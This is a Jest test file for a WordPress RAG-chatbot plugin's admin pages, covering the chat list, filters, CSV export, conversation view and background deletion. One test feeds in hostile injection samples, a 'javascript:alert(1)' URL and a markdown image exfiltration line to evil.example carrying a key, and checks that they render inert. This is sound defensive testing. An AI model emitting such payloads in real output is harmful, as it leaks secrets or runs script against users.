/** @jest-environment jsdom */
import { beforeEach, describe, expect, test } from '@jest/globals';
import apiFetch from '@wordpress/api-fetch';
import { Chats } from './chats.tsx';
import type { ChatDeletion } from '../../server/contract/chats.ts';
import { links } from '../../test/injection/wishes.ts';
import { answerOf, chatOf, questionOf } from '../../test/admin/chats/samples.ts';
import { collection, fakeServer } from '../../test/admin/fake-server.ts';
import { button, click, fill, get, show, text, toggle, wait } from '../../test/admin/page.tsx';
import { siteOf } from '../../test/admin/site.ts';

describe('chat list', () => {
  const server = fakeServer();
  const page = <Chats site={siteOf()} />;
  const one = chatOf();
  const two = chatOf({
    session: 'two',
    first_question: 'Wo kann ich parken?',
    turns: 4,
    up: 2,
    down: 1,
    outcome: 'refused',
    language: 'de',
    page_url: '',
  });

  const asked = () =>
    server.calls.filter(({ path }) => path === '/chats').map(({ query }) => query);
  const lastAsked = () => asked().at(-1);

  beforeEach(() => {
    window.history.replaceState(null, '', '/wp-admin/admin.php?page=itih-rag-chat-chats');
    server.on('GET /chats', collection([one, two], 45));
    server.on('GET /chats/facets', { pages: ['/visit/', '/shop/'], languages: ['en', 'de'] });
  });

  test('lists conversations with what their owner wants to know', async () => {
    await show(page);
    const rows = [...document.querySelectorAll('#itih-chats tbody tr')].map(
      (row) => row.textContent,
    );
    expect(rows[0]).toContain('When does the museum open?');
    expect(rows[0]).toContain('Answered');
    expect(rows[0]).toContain('site.test/visit');
    expect(rows[0]).toContain('English');
    expect(rows[1]).toContain('Found nothing');
    expect(rows[1]).toContain('Helpful: 2');
    expect(rows[1]).toContain('Not helpful: 1');
    expect(text()).toContain('45 conversations');
    expect(text()).toContain('Page 1 of 3');
  });

  test.each([
    ['https://www.site.test/visit/opening%20hours/?day=1', '/visit/opening hours/?day=1'],
    ['http://site.test', '/'],
    ['https://other.test/visit/', 'other.test/visit'],
  ])('names the page %s as %s', async (page_url, shown) => {
    server.on('GET /chats', collection([{ ...one, page_url }], 1));
    await show(<Chats site={siteOf({ homeUrl: 'https://site.test' })} />);
    // The rest tells of the new tab.
    expect(get('.itih-source bdi').textContent).toBe(shown);
  });

  test('the address holds the filter, and the server applies it', async () => {
    window.history.replaceState(
      null,
      '',
      '?page=itih-rag-chat-chats&s=park&from=2026-01-01&to=2026-01-31&feedback=down&outcome=refused&asked_on=%2Fold%2F&language=de&orderby=turns&order=asc&paged=2',
    );
    await show(page);
    expect(lastAsked()).toMatchObject({
      search: 'park',
      from: '2026-01-01',
      to: '2026-01-31',
      feedback: 'down',
      outcome: 'refused',
      asked_on: '/old/',
      language: 'de',
      orderby: 'turns',
      order: 'asc',
      page: '2',
    });
    expect(get<HTMLSelectElement>('[name="asked_on"]').value).toBe('/old/');
    await fill('[name="language"]', 'en');
    await wait();
    expect(lastAsked()).toMatchObject({ language: 'en', page: '1' });
    expect(window.location.search).toContain('language=en');
    expect(window.location.search).not.toContain('paged');
    await fill('[name="s"]', 'bus');
    await wait(400);
    expect(lastAsked()).toMatchObject({ search: 'bus', feedback: 'down' });
  });

  describe('deleting', () => {
    const requests = () =>
      server.calls.filter(({ path }) => path === '/chats/delete').map(({ body }) => body);
    const deletes = (deleted: number) =>
      server.on('POST /chats/delete', () => {
        server.on('GET /chats', collection([one], 1));
        return { deleted };
      });

    test('chosen conversations are deleted after a question', async () => {
      deletes(1);
      await show(page);
      await toggle('Select Wo kann ich parken?');
      expect(text()).toContain('1 conversation selected');
      await click('Delete', '.itih-selection');
      expect(get('[role="dialog"]').textContent).toContain('Delete 1 conversation?');
      await click('Cancel');
      expect(requests()).toEqual([]);
      await click('Delete', '.itih-selection');
      await click('Delete', '[role="dialog"]');
      expect(requests()).toEqual([{ sessions: ['two'] }]);
      expect(text()).toContain('1 conversation was deleted.');
      expect(text()).not.toContain('parken');
    });

    test('a number that is not counted to its end is said to be the least', async () => {
      server.on('GET /chats', collection([one], 10_000));
      await show(page);
      expect(text()).toContain('10,000 conversations or more');
      await click('Delete all conversations');
      expect(get('[role="dialog"]').textContent).toContain('Delete 10,000 conversations or more?');
    });

    test('a number that belongs to another filter deletes nothing', async () => {
      await show(page);
      server.on('GET /chats', () => new Promise(() => undefined));
      await fill('[name="outcome"]', 'failed');
      await wait();
      const all = button('Delete all that fit (45)');
      expect(all.getAttribute('aria-disabled')).toBe('true');
      all.click();
      await wait();
      expect(document.querySelector('[role="dialog"]')).toBeNull();
    });
  });

  describe('the export', () => {
    const link = () => button('Export as CSV') as HTMLAnchorElement;

    test('honours the filter and carries the nonce as it is when it is followed', async () => {
      const nonces = apiFetch as { nonceMiddleware?: { nonce: string } | undefined };
      nonces.nonceMiddleware = { nonce: 'old' };
      window.history.replaceState(null, '', '?page=itih-rag-chat-chats&outcome=refused&paged=2');
      await show(page);
      expect(new URL(link().href).searchParams.get('_wpnonce')).toBe('old');
      nonces.nonceMiddleware.nonce = 'new';
      link().addEventListener('click', (event) => event.preventDefault());
      await click('Export as CSV');
      expect(link().href).toBe(
        'http://site.test/wp-json/itih/v1/chats/export?outcome=refused&_wpnonce=new',
      );
      expect(link().hasAttribute('download')).toBe(true);
      nonces.nonceMiddleware = undefined;
    });

    test('works without pretty permalinks', async () => {
      const exportUrl = 'http://site.test/index.php?rest_route=%2Fitih%2Fv1%2Fchats%2Fexport';
      window.history.replaceState(null, '', '?page=itih-rag-chat-chats&s=park');
      await show(<Chats site={siteOf({ exportUrl })} />);
      const { searchParams } = new URL(link().href);
      expect(Object.fromEntries(searchParams)).toEqual({
        rest_route: '/itih/v1/chats/export',
        search: 'park',
      });
    });
  });

  test.each([
    ['an administrator is told how to start it', true, 'The answer service is not running'],
    ['others are told whom to ask', false, 'Please tell an administrator'],
  ])('without a sidecar %s', async (_, canManage, sentence) => {
    server.fail('GET /status', 'sidecar_unavailable');
    server.fail('GET /chats', 'sidecar_unavailable');
    await show(<Chats site={siteOf({ canManage })} />);
    expect(text()).toContain(sentence);
    expect(document.querySelector('#itih-on-site') !== null).toBe(canManage);
  });
});

describe('chat view', () => {
  const server = fakeServer();
  const page = <Chats site={siteOf()} />;
  const open = (session: string, more = '') =>
    window.history.replaceState(null, '', `?page=itih-rag-chat-chats&chat=${session}${more}`);
  const hrefs = (selector: string) =>
    [...document.querySelectorAll<HTMLAnchorElement>(selector)].map((link) =>
      link.getAttribute('href'),
    );
  const detail = (...turns: ReturnType<typeof questionOf>[]) =>
    server.on('GET /chats/one', { chat: chatOf({ up: 1 }), turns });

  beforeEach(() => {
    open('one');
    server.on('GET /chats', collection([chatOf()], 1));
    server.on('GET /chats/facets', { pages: [], languages: [] });
    detail(questionOf({ gap: 9 }), answerOf());
  });

  test('shows the conversation as its visitor saw it, with what stood behind it', async () => {
    detail(
      questionOf(),
      answerOf({
        feedback: 'down',
        comment: 'Not on Mondays!',
        reasoning: 'I looked at the hours.',
        tools: [{ name: 'find_room', ok: false }],
        requestId: 'browser-7f3a0c52',
      }),
    );
    await show(page);
    const answer = get('.itih-markdown');
    expect(answer.querySelector('strong')?.textContent).toBe('ten');
    expect(answer.querySelector('sup a')?.getAttribute('href')).toBe('http://site.test/hours/');
    expect(answer.querySelector('[aria-describedby]')).toBeNull();
    expect(get('.itih-turn.is-answer .itih-turn__who').textContent).toContain('Answered');
    expect(get('.itih-answer-facts').closest('details')?.open).toBe(false);
    expect(get('.itih-answer-facts').textContent).toContain('93% sure');
    expect(get('.itih-answer-facts').textContent).toContain('gpt-5-mini');
    expect(get('.itih-answer-facts').textContent).toContain('1.2 sec');
    expect(get('.itih-answer-facts').textContent).toContain('1,200 tokens in, 34 out');
    expect(get('.itih-answer-facts').textContent).toContain('900 of them from the cache');
    expect(get('.itih-answer-facts').textContent).toContain('$0.00042');
    expect(get('.itih-request').textContent).toBe('Request browser-7f3a0c52');
    expect(text()).toContain('The visitor found this not helpful.');
    expect(text()).toContain('Not on Mondays!');
    const folded = [...document.querySelectorAll('.itih-folded')].map((part) => part.textContent);
    expect(folded[0]).toContain('Sources (1)');
    expect(folded[0]).toContain('The museum opens at ten.');
    expect(folded[1]).toContain('I looked at the hours.');
    expect(folded[2]).toContain('find_room failed');
  });

  test('what an attack wishes loads nothing, and is a link only where it is named as the page of the question', async () => {
    const hostile = links.join('\n\n');
    detail(
      questionOf({ content: hostile, pageUrl: 'javascript:alert(1)' }),
      answerOf({
        comment: hostile,
        feedback: 'down',
        reasoning: hostile,
        tools: [{ name: hostile, ok: true }],
      }),
    );
    await show(page);
    expect(document.querySelectorAll('#itih-chat-turns :is(img,script,iframe,style)')).toHaveLength(
      0,
    );
    const away = hrefs('#itih-chat-turns a').filter(
      (href) => !/^(\?|http:\/\/site\.test\/)/.test(href!),
    );
    expect(away).toEqual([]);
    expect(text()).toContain('![x](https://evil.example/p.png?d=KEY)');
  });

  test('leads to the gap, to the search and to writing an answer', async () => {
    await show(page);
    expect(hrefs('.itih-exchange > .itih-row-actions a')).toEqual([
      '?page=itih-rag-chat-gaps&gap=9',
      '?page=itih-rag-chat-search&q=When+does+the+museum+open%3F',
      '?page=itih-rag-chat-answers&question=When+does+the+museum+open%3F',
    ]);
  });

  test('shows the closest pages with the words of the question marked', async () => {
    const closest = [
      {
        title: 'Visit',
        section: '',
        url: 'http://site.test/visit/',
        kind: 'post' as const,
        passage: 'We open the doors at ten.',
        marks: [
          [3, 7],
          [21, 24],
        ] as [number, number][],
      },
    ];
    detail(questionOf(), answerOf({ outcome: 'closest', citations: [], closest }));
    await show(page);
    expect([...document.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual([
      'open',
      'ten',
    ]);
    expect(get('.itih-folded .itih-chunks__text').textContent).toBe('We open the doors at ten.');
    expect(get('.itih-folded summary').textContent).toBe('Closest pages (1)');
  });

  test('pages below an answer are further ones', async () => {
    const closest = [
      { ...{ title: 'Café', section: '', kind: 'post' as const }, url: '', passage: '', marks: [] },
    ];
    detail(questionOf(), answerOf({ content: '**Visit** says:\n\n> At **ten** [1].', closest }));
    await show(page);
    expect(get('.itih-markdown blockquote strong').textContent).toBe('ten');
    expect(
      [...document.querySelectorAll('.itih-folded summary')].map((node) => node.textContent),
    ).toEqual(['Sources (1)', 'More pages (1)', 'Details']);
  });

  test('says why an answer has no text, and when there is none at all', async () => {
    detail(
      questionOf(),
      answerOf({ content: '', outcome: 'failed', citations: [] }),
      questionOf({ id: 3 }),
      answerOf({ id: 4, content: '', outcome: 'stopped', citations: [] }),
      questionOf({ id: 5, content: 'Hello?' }),
    );
    await show(page);
    const shown = [...document.querySelectorAll('.itih-exchange')].map((turn) => turn.textContent);
    expect(shown[0]).toContain('The answer failed before its first word.');
    expect(shown[1]).toContain('The visitor stopped the answer');
    expect(shown[2]).toContain('There is no answer yet.');
  });

  test('turns to the conversations before and after it, across pages of the list', async () => {
    open('two', '&paged=2&outcome=answered');
    const pages: Record<string, string[]> = { '1': ['zero', 'one'], '2': ['two'], '3': ['three'] };
    server.on('GET /chats', ({ query }) =>
      collection(
        pages[query['page'] ?? '']?.map((session) => chatOf({ session })),
        5,
        2,
      ),
    );
    server.on('GET /chats/two', { chat: chatOf({ session: 'two' }), turns: [] });
    server.on('GET /chats/three', { chat: chatOf({ session: 'three' }), turns: [] });
    await show(page);
    const { search } = new URL((button('Previous conversation') as HTMLAnchorElement).href);
    expect(new URLSearchParams(search).get('chat')).toBe('one');
    expect(new URLSearchParams(search).get('paged')).toBeNull();
    await click('Next conversation');
    await wait();
    expect(window.location.search).toContain('chat=three');
    expect(window.location.search).toContain('paged=3');
    expect(window.location.search).toContain('outcome=answered');
    expect(document.querySelector('[rel="next"]')).toBeNull();
  });
});

describe('chat deletion', () => {
  const server = fakeServer();
  const page = <Chats site={siteOf()} />;
  const deletionOf = (deletion: Partial<ChatDeletion> = {}): ChatDeletion => ({
    id: 'first',
    state: 'deleting',
    total: 12_000,
    deleted: 3000,
    error: null,
    started_at: '2026-01-02T10:00:00Z',
    ended_at: null,
    ...deletion,
  });
  const done = deletionOf({ state: 'done', deleted: 12_000, ended_at: '2026-01-02T10:09:00Z' });
  const now = (deletion: ChatDeletion | null) =>
    server.on('GET /chats/deletion', () => ({ deletion }));
  const lists = () => server.calls.filter(({ path }) => path === '/chats').length;
  const bar = () => document.querySelector('[role="progressbar"]');

  beforeEach(() => {
    window.history.replaceState(null, '', '/wp-admin/admin.php?page=itih-rag-chat-chats');
    server.on('GET /chats', collection([chatOf()], 10_000));
    server.on('GET /chats/facets', { pages: [], languages: [] });
    now(null);
  });

  test('many are deleted in the background, with progress and a sentence at the end', async () => {
    const counting = deletionOf({ state: 'counting', total: 0, deleted: 0 });
    server.on('POST /chats/delete', { deleted: 0, deletion: counting });
    await show(page);
    await click('Delete all conversations');
    await click('Delete', '[role="dialog"]');
    expect(text()).toContain('Counting the conversations to delete… 0 so far');
    expect(text()).not.toContain('Nothing was left to delete');

    now(deletionOf());
    await wait(2100);
    expect(text()).toContain('Deleting conversations… 3,000 of 12,000 done');
    expect(bar()?.getAttribute('aria-valuenow')).toBe('25');
    expect(button('Delete all conversations').getAttribute('aria-disabled')).toBe('true');

    now(done);
    server.on('GET /chats', collection([], 0));
    await wait(2100);
    expect(text()).toContain('12,000 conversations were deleted.');
    expect(text()).toContain('Nobody has asked anything yet.');
    expect(bar()).toBeNull();
  }, 15_000);

  test('a page that is loaded later shows it, too, and it can be stopped', async () => {
    now(deletionOf());
    await show(page);
    expect(text()).toContain('Deleting conversations… 3,000 of 12,000 done');
    const before = lists();
    server.on('DELETE /chats/deletion', {
      deletion: deletionOf({ state: 'stopped', ended_at: '2026-01-02T10:01:00Z' }),
    });
    await click('Stop');
    expect(text()).toContain('3,000 conversations were deleted. It was stopped before the others.');
    expect([bar(), lists()]).toEqual([null, before + 1]);
  });

  test('a problem is named while it is tried again', async () => {
    now(deletionOf({ error: { code: 'overloaded', message: 'The database is busy.' } }));
    await show(page);
    expect(text()).toContain('The database is busy. It is tried again by itself.');
    expect(bar()).not.toBeNull();
  });
});
